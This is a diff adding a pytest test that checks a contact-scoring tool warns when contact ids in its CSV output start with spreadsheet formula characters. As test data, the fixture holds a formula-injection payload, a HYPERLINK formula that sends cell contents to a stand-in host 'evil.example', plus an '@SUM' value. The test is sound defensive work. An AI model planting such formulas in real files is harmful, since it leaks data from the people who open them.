@@ -127,6 +127,33 @@ def test_csv_scores_and_the_movement_since_the_previous_scores(
     # a stage of one contact is no leak to name
     assert "No stage of 30 contacts or more lost any to a shallower stage" in said
     assert csv["as_of"].unique().to_list() == ["2026-04-20T00:00:00Z"]  # as the service says it
+    assert "formula" not in said  # no id starts as one
+
+
+def test_a_csv_says_how_many_ids_a_spreadsheet_would_run_as_formulas(
+    served: Served, scored: Path, tmp_path: Path
+) -> None:
+    """Privacy review: ids such as `=HYPERLINK(...)` were written verbatim into the CRM's CSV
+    without a word; a spreadsheet opening it runs them. They are the CRM's own ids, so they
+    are kept as they are (a changed id would not match its contact on import), and said."""
+    some = pl.read_parquet(scored)["contact_id"].head(2).to_list()
+    formulas = {some[0]: '=HYPERLINK("http://evil.example/?x="&A2,"click")', some[1]: "@SUM(1+1)"}
+    folder = tmp_path / "data"
+    folder.mkdir()
+    for name, table in (("events", served.events), ("contacts", served.contacts)):
+        renamed = pl.from_arrow(table).with_columns(  # type: ignore[union-attr]
+            pl.col("contact_id").cast(pl.String).replace(formulas)
+        )
+        renamed.write_parquet(folder / f"{name}.parquet")
+    out = tmp_path / "scores.csv"
+    result = _score(
+        served, "--events", str(folder), "--as-of", "2026-04-20", "--out", str(out), "--no-reasons"
+    )
+    assert result.exit_code == 0, result.output
+    said = " ".join(result.output.split())
+    assert "2 contact ids in the CSV start with =, +, -, @" in said
+    written = set(pl.read_csv(out, infer_schema=False)["contact_id"])
+    assert set(formulas.values()) <= written
 
 
 def test_the_movement_counts_each_previous_stage_by_where_its_contacts_are_now() -> None:
